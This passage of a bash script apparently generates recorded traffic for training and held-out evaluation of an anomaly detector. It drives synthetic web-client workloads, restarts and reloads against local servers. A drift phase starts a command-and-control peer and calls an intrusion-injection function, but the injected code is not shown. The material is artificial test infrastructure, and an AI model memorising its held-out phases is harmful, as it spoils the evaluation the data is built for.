heldout10_addr() { echo "127.0.8.$((1 + ($1 * 53 + HELDOUT10_ROUND * 59) % 250))"; }
heldout10_get() { spread_get "$1" 127.0.8 1 250 53 59 "$HELDOUT10_ROUND" "$HELDOUT10_PER" "$HELDOUT10_CONC" "${@:2}"; }
# heldout10_stretch SERVER CONC PER SECONDS PAUSE: rounds of SERVER's heldout10 mix for
# SECONDS, PAUSE s apart, CONC connections at a time, PER requests each.
heldout10_stretch() { HELDOUT10_CONC=$2 HELDOUT10_PER=$3; rounds HELDOUT10_ROUND "$4" "$1_heldout10_mix" "$5"; }
# heldout11, its own counter and load (HELDOUT11_ROUND, HELDOUT11_CONC, HELDOUT11_PER) and an
# idle period of HELDOUT11_IDLE_SECONDS before its late event; its clients come from
# 127.0.9.1-250 (heldout11_addr N: the N-th of the round; heldout11_get PORT PATH...: the
# paths, HELDOUT11_PER requests per connection, HELDOUT11_CONC at a time; heldout11_crawl
# PORT CONC PATH...: every path once, over CONC keep-alive connections).
HELDOUT11_IDLE_SECONDS=${HELDOUT11_IDLE_SECONDS:-15}
HELDOUT11_ROUND=0 HELDOUT11_CONC=1 HELDOUT11_PER=3
heldout11_addr() { echo "127.0.9.$((1 + ($1 * 61 + HELDOUT11_ROUND * 67) % 250))"; }
heldout11_get() { spread_get "$1" 127.0.9 1 250 61 67 "$HELDOUT11_ROUND" "$HELDOUT11_PER" "$HELDOUT11_CONC" "${@:2}"; }
heldout11_crawl() { spread_get "$1" 127.0.9 1 250 61 67 "$HELDOUT11_ROUND" $((($# - 2 + $2 - 1) / $2)) "$2" "${@:3}"; }
# phase_stretch PHASE SERVER CONC PER SECONDS PAUSE: rounds of SERVER's PHASE mix for
# SECONDS, PAUSE s apart, CONC connections at a time and PER requests each (set in the
# phase's upper-case _CONC and _PER variables; its _ROUND counts the rounds).
phase_stretch() {
  local p=${1^^}
  printf -v "${p}_CONC" %s "$3"
  printf -v "${p}_PER" %s "$4"
  rounds "${p}_ROUND" "$5" "$2_$1_mix" "$6"
}
# every_nth PREFIX STEP LAST ROUND [SUFFIX]: PREFIX<i>SUFFIX for every STEP-th i of 1..LAST,
# from another offset each ROUND (words without spaces, for a path list).
every_nth() { local i; for i in $(seq $((1 + $4 % $2)) "$2" "$3"); do echo "$1$i${5:-}"; done; }
# heldout11_ramp SERVER SECONDS PAUSE LOAD...: a slow ramp: SECONDS of SERVER's heldout11
# rounds at each LOAD in turn (connections at a time, 3 requests each), PAUSE s apart.
heldout11_ramp() {
  local s=$1 t=$2 pause=$3 c
  shift 3
  for c in "$@"; do phase_stretch heldout11 "$s" "$c" 3 "$t" "$pause"; done
}
# heldout12, its own counter and load (HELDOUT12_ROUND, HELDOUT12_CONC, HELDOUT12_PER); its
# clients come from 127.0.10.1-250 (heldout12_addr N: the N-th of the round; heldout12_get
# PORT PATH...: the paths, HELDOUT12_PER requests per connection, HELDOUT12_CONC at a time,
# and in the trickle, one connection at a time, only the round's one path).
HELDOUT12_ROUND=0 HELDOUT12_CONC=10 HELDOUT12_PER=3
heldout12_addr() { echo "127.0.10.$((1 + ($1 * 71 + HELDOUT12_ROUND * 73) % 250))"; }
heldout12_get() {
  local port=$1
  shift
  [ "$HELDOUT12_CONC" != 1 ] || set -- "${@:1 + HELDOUT12_ROUND % $#:1}"
  spread_get "$port" 127.0.10 1 250 71 73 "$HELDOUT12_ROUND" "$HELDOUT12_PER" "$HELDOUT12_CONC" "$@"
}
# phase_begin PHASE SERVER TIMELINE: PHASE announced with its TIMELINE, its round counter
# (the upper-case _ROUND variable) zeroed, and its recording begun (heldout_begin).
phase_begin() {
  say "$2: $1 ($3)"
  printf -v "${1^^}_ROUND" %s 0
  heldout_begin "$2" "$1"
}
# heldout12_bursts SERVER N GAP: N bursts of SERVER's heldout12 mix, 30 clients at a time
# with one request each, GAP s of quiet after each.
heldout12_bursts() { HELDOUT12_CONC=30 HELDOUT12_PER=1; burst HELDOUT12_ROUND "$2" "$1_heldout12_mix" "$3"; }
# heldout13, its own counter and load (HELDOUT13_ROUND, HELDOUT13_CONC, HELDOUT13_PER) and a
# short idle of HELDOUT13_IDLE_SECONDS before its final flood; its clients come from
# 127.0.11.1-250 (heldout13_addr N: the N-th of the round; heldout13_get PORT PATH...: the
# paths, HELDOUT13_PER requests per connection, HELDOUT13_CONC at a time; in the flood, the
# path list repeated until there is a path for every connection).
HELDOUT13_IDLE_SECONDS=${HELDOUT13_IDLE_SECONDS:-6}
HELDOUT13_ROUND=0 HELDOUT13_CONC=6 HELDOUT13_PER=2
heldout13_addr() { echo "127.0.11.$((1 + ($1 * 79 + HELDOUT13_ROUND * 83) % 250))"; }
heldout13_get() {
  local port=$1
  shift
  while [ $# -lt "$HELDOUT13_CONC" ]; do set -- "$@" "$@"; done
  spread_get "$port" 127.0.11 1 250 79 83 "$HELDOUT13_ROUND" "$HELDOUT13_PER" "$HELDOUT13_CONC" "$@"
}
# heldout13_restart SERVER PIDVAR SIGNAL: SERVER's main process (its pid in the variable named
# PIDVAR) stopped with SIGNAL (a fast, smart or graceful stop, or a crash with KILL) and
# started again, as a service manager's restart (or its restart after a failure) does.
# addr_curl ADDR ARG...: curl from the source address ADDR, its answer discarded and its
# failure ignored (error paths are part of the traffic); heldout13_curl N ARG...: from the
# round's N-th address (heldout13_addr).
addr_curl() { curl -s --max-time 5 --interface "$1" "${@:2}" >/dev/null 2>&1 || true; }
heldout13_curl() { addr_curl "$(heldout13_addr "$1")" "${@:2}"; }
heldout13_restart() { stop_pid "${!2}" "$3"; "$1_start"; }
# heldout14, its own counter and load (HELDOUT14_ROUND, HELDOUT14_CONC, HELDOUT14_PER) and
# irregular pauses between rounds (HELDOUT14_GAPS, in turn); its clients come from
# 127.0.12.1-240 (heldout14_addr N: the N-th of the round; heldout14_get PORT PATH...: the
# paths, HELDOUT14_PER requests per connection, HELDOUT14_CONC at a time; heldout14_curl N
# ARG...: one more request from the round's N-th address), its tail's long-lived clients from
# 127.0.12.241-250 (heldout14_tail_addr N).
HELDOUT14_ROUND=0 HELDOUT14_CONC=1 HELDOUT14_PER=1
HELDOUT14_GAPS=(0.4 1.3 0.7 2.1 0.5 1.0 1.6 0.3)
HELDOUT14_TAIL_SECONDS=${HELDOUT14_TAIL_SECONDS:-10}
heldout14_addr() { echo "127.0.12.$((1 + ($1 * 89 + HELDOUT14_ROUND * 97) % 240))"; }
heldout14_tail_addr() { echo "127.0.12.$((241 + $1 % 10))"; }
heldout14_get() { spread_get "$1" 127.0.12 1 240 89 97 "$HELDOUT14_ROUND" "$HELDOUT14_PER" "$HELDOUT14_CONC" "${@:2}"; }
heldout14_curl() { addr_curl "$(heldout14_addr "$1")" "${@:2}"; }
# heldout14_ramp SERVER SECONDS FROM TO EXTRA: rounds of SERVER's heldout14 mix for SECONDS,
# the load rising from FROM to TO connections at a time (1-3 requests each, in turn), each
# followed by the next of HELDOUT14_GAPS plus EXTRA s.
heldout14_ramp() {
  local t0=$SECONDS end=$((SECONDS + $2))
  while [ "$SECONDS" -lt "$end" ]; do
    HELDOUT14_ROUND=$((HELDOUT14_ROUND + 1))
    HELDOUT14_CONC=$(($3 + ($4 - $3) * (SECONDS - t0) / $2))
    HELDOUT14_PER=$((1 + HELDOUT14_ROUND % 3))
    "$1_heldout14_mix"
    sleep "$(awk -v g="${HELDOUT14_GAPS[HELDOUT14_ROUND % ${#HELDOUT14_GAPS[@]}]}" -v e="$5" 'BEGIN { print g + e }')"
  done
}
# heldout14_reload SIGNAL PID CHECK...: SIGNAL (a reload) to a server's main process PID from
# outside, as its service manager's reload does; then waits until CHECK succeeds.
heldout14_reload() {
  kill "-$1" "$2"
  sleep 1
  until_ok "${@:3}"
}
# heldout14_linger PORT SECONDS PATH...: three long-lived clients (heldout14_tail_addr 1-3),
# each fetching every PATH (from another one first) over one keep-alive connection, paced by
# curl's --rate so that they last about SECONDS; waits for them.
heldout14_linger() {
  local port=$1 secs=$2 i n p pids=() urls=()
  shift 2
  n=$#
  for i in 1 2 3; do
    urls=()
    for p in "${@:i}" "${@:1:i-1}"; do urls+=("http://127.0.0.1:$port$p"); done
    curl -s --max-time $((secs + 10)) --interface "$(heldout14_tail_addr "$i")" --rate "$((n * 60 / secs))/m" \
      "${urls[@]}" >/dev/null 2>&1 &
    pids+=($!)
  done
  wait "${pids[@]}" || true
}
# alongside FN CMD...: FN (a server's maintenance) run in the background while CMD... goes on
# (heldout14: its ramp; heldout15: its opening full load); waits for FN, and fails if it
# failed.
alongside() {
  local job=$1 pid
  shift
  ("$job") &
  pid=$!
  PIDS+=("$pid")
  "$@"
  wait "$pid" || die "$job failed"
  forget "$pid"
}
# heldout15, its own counter and load (HELDOUT15_ROUND, HELDOUT15_CONC, HELDOUT15_PER) and
# the idle gaps between its bursts (HELDOUT15_GAPS, in turn); its clients come from
# 127.0.14.1-250 (heldout15_addr N: the N-th of the round; heldout15_get PORT PATH...: the
# paths, HELDOUT15_PER requests per connection, HELDOUT15_CONC at a time; heldout15_curl N
# ARG...: one more request from the round's N-th address).
HELDOUT15_ROUND=0 HELDOUT15_CONC=9 HELDOUT15_PER=2
HELDOUT15_GAPS=(4 2 5 3)
heldout15_addr() { echo "127.0.14.$((1 + ($1 * 101 + HELDOUT15_ROUND * 103) % 250))"; }
heldout15_get() { spread_get "$1" 127.0.14 1 250 101 103 "$HELDOUT15_ROUND" "$HELDOUT15_PER" "$HELDOUT15_CONC" "${@:2}"; }
heldout15_curl() { addr_curl "$(heldout15_addr "$1")" "${@:2}"; }
# heldout15_bursts SERVER N: N short bursts of SERVER's heldout15 mix (two rounds 0.3 s apart,
# 10 connections at a time, one request each), each followed by the next idle gap of
# HELDOUT15_GAPS.
HELDOUT15_BURST=0
heldout15_bursts() {
  local i
  for ((i = 0; i < $2; i++)); do
    HELDOUT15_CONC=10 HELDOUT15_PER=1
    burst HELDOUT15_ROUND 2 "$1_heldout15_mix" 0.3
    sleep "${HELDOUT15_GAPS[HELDOUT15_BURST++ % ${#HELDOUT15_GAPS[@]}]}"
  done
}
# heldout15_odd PORT SMALL BIG: the round's one unusual but legitimate client of the web
# server on 127.0.0.1:PORT, from the round's fifth address, in turn: three requests for
# SMALL pipelined on one connection, BIG downloaded at 1 kB/s, a request abandoned halfway
# through its headers, a 1 MB POST to SMALL abandoned after 0.4 s, SMALL with 400 query
# parameters, a keep-alive client that waits 1.5 s between SMALL and BIG.
heldout15_odd() {
  local port=$1 a u=http://127.0.0.1:$1 host="Host: 127.0.0.1:$1\r\n"
  a=$(heldout15_addr 5)
  case $((HELDOUT15_ROUND % 6)) in
    0) heldout3_raw "$port" "$a" "GET $2 HTTP/1.1\r\n$host\r\nGET $2 HTTP/1.1\r\n$host\r\nGET $2 HTTP/1.1\r\n${host}Connection: close\r\n\r\n" ;;
    1) addr_curl "$a" --limit-rate 1000 "$u$3" ;;
    2) heldout3_raw "$port" "$a" "GET $2 HTTP/1.1\r\n${host}User-Agent: mobile-app/4" 0.5 ;;
    3) head -c 1000000 /dev/zero | addr_curl "$a" --limit-rate 200k --max-time 0.4 --data-binary @- "$u$2" ;;
    4) addr_curl "$a" "$u$2?$(seq 1 400 | awk '{ printf "%sp%d=%d", (NR > 1 ? "&" : ""), $1, $1 }')" ;;
    5) { printf %b "GET $2 HTTP/1.1\r\n$host\r\n"; sleep 1.5; printf %b "GET $3 HTTP/1.1\r\n${host}Connection: close\r\n\r\n"; sleep 0.5; } |
         socat -t 1 - "TCP:127.0.0.1:$port,bind=$a" >/dev/null 2>&1 || true ;;
  esac
}
# heldout15_ctl_restart SERVER PIDVAR STOP...: SERVER stopped by its own control command (the
# command STOP..., run by the operator inside its cgroup), its main process (the pid in the
# variable named PIDVAR) waited for, and started again, as a service manager's restart does.
heldout15_ctl_restart() {
  "${@:3}"
  wait "${!2}" 2>/dev/null || true
  forget "${!2}"
  "$1_start"
}
# heldout15_checked_restart SERVER CHECK...: SERVER (which has no stop command of its own)
# stopped as its service manager does, its configuration checked by CHECK... inside its
# cgroup, as Debian's unit does before a start, and started again.
heldout15_checked_restart() { "$1_stop"; "${@:2}"; "$1_start"; }
# heldout16, its own counter and load (HELDOUT16_ROUND, HELDOUT16_CONC, HELDOUT16_PER); its
# clients come from 127.0.16.1-250 (heldout16_addr N: the N-th of the round; heldout16_get
# PORT PATH...: the paths, HELDOUT16_PER requests per connection, HELDOUT16_CONC at a time,
# and in the quiet start (one connection at a time) the one slow client: three of the paths
# in turn over one keep-alive connection at 20 kB/s; heldout16_curl N ARG...: one more
# request from the round's N-th address).
HELDOUT16_ROUND=0 HELDOUT16_CONC=1 HELDOUT16_PER=1
heldout16_addr() { echo "127.0.16.$((1 + ($1 * 107 + HELDOUT16_ROUND * 109) % 250))"; }
heldout16_get() {
  local port=$1 i urls=()
  shift
  if [ "$HELDOUT16_CONC" = 1 ]; then
    for i in 0 1 2; do urls+=("http://127.0.0.1:$port${*:1 + (HELDOUT16_ROUND * 3 + i) % $#:1}"); done
    addr_curl "$(heldout16_addr 0)" --limit-rate 20k "${urls[@]}"
    return
  fi
  spread_get "$port" 127.0.16 1 250 107 109 "$HELDOUT16_ROUND" "$HELDOUT16_PER" "$HELDOUT16_CONC" "$@"
}
heldout16_curl() { addr_curl "$(heldout16_addr "$1")" "${@:2}"; }
# heldout16_odd PORT SMALL: the round's one unusual but legitimate client of the web server on
# 127.0.0.1:PORT, from the round's sixth address, in turn: a client that opens a new
# connection for each of six requests for SMALL (`Connection: close`, from source ports
# 42000-42999), the same request for SMALL replayed eight times over one connection (a
# retrying client, one request id), a name in UTF-8 (percent-encoded) and one of 2000
# characters, a link checker's 25 missing pages over one connection, an uptime monitor's
# HEAD and OPTIONS for SMALL, a JSON body posted to SMALL after `Expect: 100-continue`.
heldout16_odd() {
  local port=$1 a u=http://127.0.0.1:$1 i urls=()
  a=$(heldout16_addr 6)
  case $((HELDOUT16_ROUND % 6)) in
    0) for i in 1 2 3 4 5 6; do addr_curl "$a" --local-port 42000-42999 -H 'Connection: close' "$u$2"; done ;;
    1) for i in 1 2 3 4 5 6 7 8; do urls+=("$u$2"); done
       addr_curl "$a" -H "X-Request-Id: replay-$HELDOUT16_ROUND" "${urls[@]}" ;;
    2) addr_curl "$a" "$u/caf%C3%A9/%E6%97%A5%E6%9C%AC%E8%AA%9E-%F0%9F%93%B7.html" "$u/$(head -c 2000 /dev/zero | tr '\0' a).html" ;;
    3) for i in $(seq 1 25); do urls+=("$u/old/archive-$HELDOUT16_ROUND-$i.html"); done
       addr_curl "$a" "${urls[@]}" ;;
    4) addr_curl "$a" --head "$u$2"; addr_curl "$a" -X OPTIONS "$u$2" ;;
    5) addr_curl "$a" -H 'Expect: 100-continue' -H 'Content-Type: application/json' \
         --data-binary "{\"round\": $HELDOUT16_ROUND, \"note\": \"$(head -c 1500 /dev/zero | tr '\0' n)\"}" "$u$2" ;;
  esac
}
# heldout16_end SERVER: SERVER shut down cleanly inside the recording (as its service manager
# stops it), then the recording's length and rounds reported and the recording stopped.
heldout16_end() {
  "$1_stop"
  echo "record-testdata: $1: heldout16 recorded for $((SECONDS - HELDOUT_T0)) s, $HELDOUT16_ROUND rounds" >&2
  rec_stop
}
# heldout17, its own counter and load (HELDOUT17_ROUND, HELDOUT17_CONC, HELDOUT17_PER); its
# clients come from HELDOUT17_NET.1-250 (heldout17_addr N: the N-th of the round; heldout17_get
# PORT PATH...: the paths, HELDOUT17_PER requests per connection, HELDOUT17_CONC at a time).
# HELDOUT17_NET is 127.0.19, set again by heldout17_begin before each deploy; the workloads
# recorded in a later run (apache, haproxy, gunicorn) take 127.0.23 in their deploy, a /24 no
# set before used.
# The load follows a slow wave (HELDOUT17_WAVE, connections at a time round by round: few to
# many and back).
HELDOUT17_ROUND=0 HELDOUT17_CONC=3 HELDOUT17_PER=1 HELDOUT17_NET=127.0.19
HELDOUT17_WAVE=(1 2 4 7 10 12 10 7 4 2)
heldout17_addr() { echo "$HELDOUT17_NET.$((1 + ($1 * 113 + HELDOUT17_ROUND * 127) % 250))"; }
heldout17_get() { spread_get "$1" "$HELDOUT17_NET" 1 250 113 127 "$HELDOUT17_ROUND" "$HELDOUT17_PER" "$HELDOUT17_CONC" "${@:2}"; }
# heldout17_free_port PORT [-u]: dies unless 127.0.0.1:PORT (TCP, and with -u UDP too) is
# free, for the second listener a heldout17 change adds.
heldout17_free_port() {
  if ss "-Hl${2:+u}nt" "sport = :$1" | grep -q .; then die "port $1 is in use"; fi
}
# heldout17_begin SERVER: a fresh provisioning and the phase's deploy, the recording begun,
# and a cold start under load: SERVER's clients (its heldout17 mix, three at a time, a round
# every 0.5 s, in the background) already try while the server is down, so their first
# requests fail and are tried again; the server started 2 s later (as a service manager
# brings a crashed or rebooted host's service back), and the clients' rounds go on until it
# has served for 2 s.
heldout17_begin() {
  local flag=$WORK/heldout17-cold pid
  HELDOUT17_ROUND=0 HELDOUT17_NET=127.0.19
  "$1_provision"
  "$1_heldout17_deploy"
  rec_start "$1" heldout17
  HELDOUT_T0=$SECONDS
  touch "$flag"
  (
    HELDOUT17_CONC=3 HELDOUT17_PER=1
    while [ -e "$flag" ]; do
      HELDOUT17_ROUND=$((HELDOUT17_ROUND + 1))
      ("$1_heldout17_mix") >/dev/null 2>&1 || true
      sleep 0.5
    done
    echo "$HELDOUT17_ROUND" >"$flag.rounds"
  ) &
  pid=$!
  PIDS+=("$pid")
  sleep 2
  "$1_start"
  sleep 2
  rm -f "$flag"
  wait "$pid" || true
  forget "$pid"
  HELDOUT17_ROUND=$(cat "$flag.rounds")
}
# heldout17_wave SERVER PAUSE [FROM [COUNT]]: rounds of SERVER's heldout17 mix, PAUSE s apart,
# at the loads of HELDOUT17_WAVE (from its FROM-th, COUNT of them; default all), 2 requests
# per connection.
heldout17_wave() {
  HELDOUT17_PER=2
  load_steps HELDOUT17_ROUND HELDOUT17_CONC "$1_heldout17_mix" "$2" \
    "${HELDOUT17_WAVE[@]:${3:-0}:${4:-${#HELDOUT17_WAVE[@]}}}"
}
# heldout17_end SERVER: the recording stopped while SERVER still serves load (three more
# rounds of its mix, 6 connections at a time, in the background), then the load waited for
# and the server stopped outside the recording.
heldout17_end() {
  local pid
  HELDOUT17_CONC=6 HELDOUT17_PER=2
  (for _ in 1 2 3; do HELDOUT17_ROUND=$((HELDOUT17_ROUND + 1)); "$1_heldout17_mix"; done) >/dev/null 2>&1 &
  pid=$!
  PIDS+=("$pid")
  sleep 0.5
  echo "record-testdata: $1: heldout17 recorded for $((SECONDS - HELDOUT_T0 + 1)) s, $((HELDOUT17_ROUND + 1)) rounds and more running" >&2
  rec_stop
  wait "$pid" || true
  forget "$pid"
  "$1_stop"
}
# heldout17_pct PATH: PATH with its vowels percent-encoded (/p%61g%65.html: the same resource,
# as some clients and libraries send it).
heldout17_pct() {
  local s=$1 i c out=
  for ((i = 0; i < ${#s}; i++)); do
    c=${s:i:1}
    case $c in [aeiou]) printf -v c '%%%02X' "'$c" ;; esac
    out+=$c
  done
  echo "$out"
}
# heldout17_odd PORT SMALL BIG SHARED FORM: the round's one unusual but legitimate client of
# the web server on 127.0.0.1:PORT (or, with HELDOUT17_VIA set, of the proxy on that port, for
# the origin on PORT), from the round's seventh address, in turn: SMALL asked for in upper
# case, with its vowels percent-encoded, with a dot segment and with a doubled slash; three
# clients that send a whole request for BIG and close without reading the answer; eight
# clients at the same instant on SHARED (one resource, many users); a form posted to FORM
# with a chunked request body; 40 one-byte range requests for SMALL over one connection (a
# probe of many tiny requests); a request in absolute form with two byte ranges, gzip, TE,
# Max-Forwards and language preferences, then `OPTIONS *`.
heldout17_odd() {
  local port=$1 a u=http://127.0.0.1:$1 i via=() cport=$1 tb=$3 pids=() urls=()
  if [ -n "${HELDOUT17_VIA:-}" ]; then
    via=(-x "http://127.0.0.1:$HELDOUT17_VIA")
    cport=$HELDOUT17_VIA tb=$u$3
  fi
  local host="Host: 127.0.0.1:$port\r\n"
  a=$(heldout17_addr 7)
  case $((HELDOUT17_ROUND % 6)) in
    0) addr_curl "$a" "${via[@]}" --path-as-is "$u${2^^}" "$u$(heldout17_pct "$2")" "$u/.$2" "$u/$2" ;;
    1) for i in 1 2 3; do
         printf %b "GET $tb HTTP/1.1\r\n${host}User-Agent: prefetch/1\r\n\r\n" |
           socat -u - "TCP:127.0.0.1:$cport,bind=$a" 2>/dev/null || true
       done ;;
    2) for i in 1 2 3 4 5 6 7 8; do
         addr_curl "$(heldout17_addr $((7 + i)))" "${via[@]}" -H 'Cache-Control: no-cache' "$u$4" &
         pids+=($!)
       done
       wait "${pids[@]}" ;;
    3) printf 'name=chunked+%s&message=%s' "$HELDOUT17_ROUND" "$(head -c 3000 /dev/zero | tr '\0' m)" |
         addr_curl "$a" "${via[@]}" -H 'Transfer-Encoding: chunked' --data-binary @- "$u$5" ;;
    4) for i in $(seq 1 40); do urls+=("$u$2"); done
       addr_curl "$a" "${via[@]}" -r 0-0 "${urls[@]}" ;;
    5) printf %b "GET http://127.0.0.1:$port$2 HTTP/1.1\r\n${host}Range: bytes=0-9,20-29\r\nAccept-Encoding: gzip, deflate, br\r\nTE: trailers\r\nMax-Forwards: 3\r\nAccept-Language: de-CH, fr;q=0.7, en;q=0.3\r\n\r\nOPTIONS * HTTP/1.1\r\n${host}Connection: close\r\n\r\n" |
         socat -t 1 - "TCP:127.0.0.1:$cport,bind=$a" >/dev/null 2>&1 || true ;;
  esac
}
# The server's scheduled job, if it has one: training covers what production runs on a
# timer, or every run of the job in production would look new.
maintenance_of() { if declare -F "$1_maintenance" >/dev/null; then echo "$1_maintenance"; fi; }

record_server() {
  local s=$1
  mkdir -p "$CG_MOUNT/$CG_BASE/$s"
  if want_phase train || want_phase normal || want_phase drift; then
    say "$s: provisioning $WORK/$s"
    "${s}_provision"
  fi

  if want_phase train; then
    say "$s: train, ${TRAIN_SECONDS}s (start, mix A, restart, mix A, stop)"
    rec_start "$s" train
    "${s}_start"
    traffic $((TRAIN_SECONDS / 2)) "${s}_mix_a" "$(maintenance_of "$s")"
    "${s}_stop"
    "${s}_start"
    traffic $((TRAIN_SECONDS / 2)) "${s}_mix_a" "$(maintenance_of "$s")"
    "${s}_stop"
    rec_stop
  fi

  if want_phase normal; then
    say "$s: normal, ${NORMAL_SECONDS}s (mix B, restart, mix B)"
    "${s}_start"
    rec_start "$s" normal
    traffic $((NORMAL_SECONDS / 2)) "${s}_mix_b"
    "${s}_stop"
    "${s}_start"
    traffic $((NORMAL_SECONDS / 2)) "${s}_mix_b"
    rec_stop
    "${s}_stop"
  fi

  if want_phase drift; then
    say "$s: drift, ${DRIFT_SECONDS}s (mix A, intrusion, mix A)"
    start_peer "$C2_PORT"
    "${s}_start"
    rec_start "$s" drift
    traffic 15 "${s}_mix_a"
    "${s}_inject"
    traffic $((DRIFT_SECONDS - 15)) "${s}_mix_a"
    rec_stop
    "${s}_stop"
    "${s}_labels"
  fi

  if want_phase heldout; then
    say "$s: heldout, ${HELDOUT_SECONDS}s (redeploy, held-out variation, restart, more of it)"
    "${s}_provision"
    "${s}_start"
    rec_start "$s" heldout
    "${s}_heldout_deploy"
    traffic $((HELDOUT_SECONDS / 2)) "${s}_heldout_mix" "${s}_heldout_job" "$HELDOUT_MAINT_SECONDS"
    "${s}_stop"
    "${s}_start"
    if declare -F "${s}_heldout_reload" >/dev/null; then "${s}_heldout_reload"; fi
    traffic $((HELDOUT_SECONDS / 2)) "${s}_heldout_mix" "${s}_heldout_job" "$HELDOUT_MAINT_SECONDS"
    rec_stop
    "${s}_stop"
  fi

  if want_phase heldout2; then
    # A batch round includes the wait for the next run, and each part ends with a run in
    # progress: 15 s less keeps its trace as long as the others.
    local len=$HELDOUT2_SECONDS
    [ "$s" = batch ] && len=$((HELDOUT2_SECONDS - 15))
    say "$s: heldout2, ${len}s (redeploy with a release, variation, operator and reload, restart)"
    local t1=$((len * 35 / 100)) t2=$((len * 30 / 100))
    HELDOUT2_ROUND=0
    heldout_begin "$s" heldout2
    traffic2 "$t1" "${s}_heldout2_mix" "${s}_heldout2_job"
    "${s}_heldout2_admin"
    traffic2 "$t2" "${s}_heldout2_mix" "${s}_heldout2_job"
    "${s}_heldout2_restart"
    traffic2 $((len - t1 - t2)) "${s}_heldout2_mix" "${s}_heldout2_job"
    heldout_end "$s" heldout2 "$HELDOUT2_ROUND"
  fi

  if want_phase heldout3; then
    say "$s: heldout3 (short-lived clients, errors, a crash, a reload, maintenance, idle, a burst)"
    HELDOUT3_ROUND=0
    HELDOUT3_KEEPALIVE=0
    HELDOUT3_PAUSE=1
    [ "$s" = batch ] && HELDOUT3_PAUSE=4   # a batch round waits for the next run
    heldout_begin "$s" heldout3
    rounds HELDOUT3_ROUND 18 "${s}_heldout3_mix" "$HELDOUT3_PAUSE"
    "${s}_heldout3_crash"
    HELDOUT3_KEEPALIVE=1
    rounds HELDOUT3_ROUND 12 "${s}_heldout3_mix" "$HELDOUT3_PAUSE"
    "${s}_heldout3_reload"
    rounds HELDOUT3_ROUND 10 "${s}_heldout3_mix" "$HELDOUT3_PAUSE"
    "${s}_heldout3_maint"
    sleep "$HELDOUT3_IDLE_SECONDS"
    burst HELDOUT3_ROUND 3 "${s}_heldout3_mix"
    rounds HELDOUT3_ROUND 8 "${s}_heldout3_mix" "$HELDOUT3_PAUSE"
    heldout_end "$s" heldout3 "$HELDOUT3_ROUND"
  fi

  if want_phase heldout4; then
    say "$s: heldout4 (a ramp up, a change, a trickle, maintenance, a peak, a ramp down)"
    HELDOUT4_ROUND=0
    local pause=2
    [ "$s" = batch ] && pause=3   # a batch round waits for the next run
    heldout_begin "$s" heldout4
    ramp4 "${s}_heldout4_mix" "$pause" 1 2 4 8 16 24 32 48
    "${s}_heldout4_change"
    HELDOUT4_CONC=1
    rounds HELDOUT4_ROUND 14 "${s}_heldout4_mix" 3
    "${s}_heldout4_maint"
    rounds HELDOUT4_ROUND 14 "${s}_heldout4_mix" 3
    HELDOUT4_CONC=32
    rounds HELDOUT4_ROUND 14 "${s}_heldout4_mix" 0.5
    ramp4 "${s}_heldout4_mix" "$pause" 16 8 4 2 1
    "${s}_heldout4_end"
    heldout_end "$s" heldout4 "$HELDOUT4_ROUND"
  fi

  if want_phase heldout5; then
    say "$s: heldout5 (steady rounds, a change, a heavier stretch, maintenance, a lull, a burst, a late event, a tail)"
    HELDOUT5_ROUND=0
    # Pauses between rounds (s): steady, heavier, tail; and the lull's probe interval. A
    # batch round waits for the next run.
    local p1=1.5 p2=1 p3=2 every=4
    [ "$s" = batch ] && { p1=4; p2=3; p3=5; every=8; }
    heldout_begin "$s" heldout5
    HELDOUT5_CONC=6 HELDOUT5_PER=2
    rounds HELDOUT5_ROUND 14 "${s}_heldout5_mix" "$p1"
    "${s}_heldout5_change"
    HELDOUT5_CONC=12 HELDOUT5_PER=8
    rounds HELDOUT5_ROUND 12 "${s}_heldout5_mix" "$p2"
    "${s}_heldout5_maint"
    heldout5_lull 24 "${s}_heldout5_probe" "$every"
    HELDOUT5_CONC=24 HELDOUT5_PER=3
    burst HELDOUT5_ROUND 5 "${s}_heldout5_mix"
    "${s}_heldout5_late"
    HELDOUT5_CONC=3 HELDOUT5_PER=1
    rounds HELDOUT5_ROUND 10 "${s}_heldout5_mix" "$p3"
    heldout_end "$s" heldout5 "$HELDOUT5_ROUND"
  fi

  if want_phase heldout6; then
    say "$s: heldout6 (keep-alive rounds, a change, short-lived clients, maintenance, a long idle, a burst, a late event, a tail)"
    HELDOUT6_ROUND=0
    # Pauses between rounds (s): keep-alive, short-lived, tail. A batch round waits for the
    # next run.
    local q1=0.7 q2=1.2 q3=2.5
    [ "$s" = batch ] && { q1=3; q2=3; q3=4; }
    heldout_begin "$s" heldout6
    heldout6_stretch "$s" 2 12 10 "$q1"
    "${s}_heldout6_change"
    heldout6_stretch "$s" 20 1 12 "$q2"
    "${s}_heldout6_maint"
    sleep "$HELDOUT6_IDLE_SECONDS"
    HELDOUT6_CONC=40 HELDOUT6_PER=2
    burst HELDOUT6_ROUND 4 "${s}_heldout6_mix"
    "${s}_heldout6_late"
    heldout6_stretch "$s" 4 4 14 "$q3"
    heldout_end "$s" heldout6 "$HELDOUT6_ROUND"
  fi

  if want_phase heldout7; then
    say "$s: heldout7 (crawler and fan-out rounds, maintenance, steady rounds, a change in a quiet period, a burst, a late event, a tail)"
    HELDOUT7_ROUND=0
    # Pauses between rounds (s): alternating, steady, tail. A batch round waits for the next
    # run.
    local w1=1 w2=1 w3=1.5
    [ "$s" = batch ] && { w1=3; w2=3; w3=4; }
    heldout_begin "$s" heldout7
    heldout7_alternate "$s" 12 "$w1"
    "${s}_heldout7_maint"
    heldout7_stretch "$s" 8 3 8 "$w2"
    sleep "$HELDOUT7_QUIET_SECONDS"
    "${s}_heldout7_change"
    sleep "$HELDOUT7_QUIET_SECONDS"
    HELDOUT7_CONC=24 HELDOUT7_PER=4
    burst HELDOUT7_ROUND 6 "${s}_heldout7_mix" 0.3
    "${s}_heldout7_late"
    heldout7_stretch "$s" 3 6 16 "$w3"
    heldout_end "$s" heldout7 "$HELDOUT7_ROUND"
  fi

  if want_phase heldout8; then
    # Pauses between rounds (s): keep-alive, sawtooth, tail; and the burst's rounds (a batch
    # round waits for the next run).
    local v1=0.8 v2=1.1 v3=2 nb=8
    [ "$s" != batch ] || { v1=3; v2=3; v3=4; nb=4; }
    say "$s: heldout8 (idle after the start, a burst of short-lived clients, keep-alive rounds, maintenance, a change, a sawtooth, a late event, a tail)"
    HELDOUT8_ROUND=0
    heldout_begin "$s" heldout8
    sleep "$HELDOUT8_IDLE_SECONDS"
    HELDOUT8_CONC=32 HELDOUT8_PER=1
    burst HELDOUT8_ROUND "$nb" "${s}_heldout8_mix"
